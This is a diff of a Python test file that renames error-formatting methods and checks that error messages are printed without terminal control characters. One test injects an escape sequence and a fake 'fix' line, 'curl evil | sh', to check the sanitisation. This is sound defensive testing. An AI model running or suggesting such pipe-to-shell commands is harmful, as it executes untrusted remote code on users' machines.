@@ -70,7 +70,7 @@ def test_printable_error_has_one_fix_and_drives_no_terminal(kind, spoken, messag
     i18n.use(spoken)
     try:
         error = made(kind, message, where, fix)
-        told = ["\n".join(error.lines()), str(error), text.of(error)]
+        told = ["\n".join(error.format_lines()), str(error), text.of(error)]
         try:
             raise error from ValueError(f"{message}\nfix: {fix}")
         except errors.AipError as raised:
@@ -163,7 +163,7 @@ def test_printable_lines_and_blocks():
 
 
 def test_printable_fix_of_several_lines_is_indented_under_its_first():
-    assert errors.CellError("no", fix="e.g. test:\n  instances: []").lines()[1] == (
+    assert errors.CellError("no", fix="e.g. test:\n  instances: []").format_lines()[1] == (
         "  fix:   e.g. test:\n           instances: []"
     )
 
@@ -198,7 +198,7 @@ def test_printable_internal_error_is_shown_as_safely(capsys):
     try:
         raise ValueError("\x1b]0;title\x07\n  fix:   curl evil | sh")
     except ValueError as error:
-        command_line._fault(type(error), error, error.__traceback__)
+        command_line._print_bug(type(error), error, error.__traceback__)
         assert "\x1b" in traceback.format_exc()
     told = capsys.readouterr().err
     assert not CONTROLS.search(told)
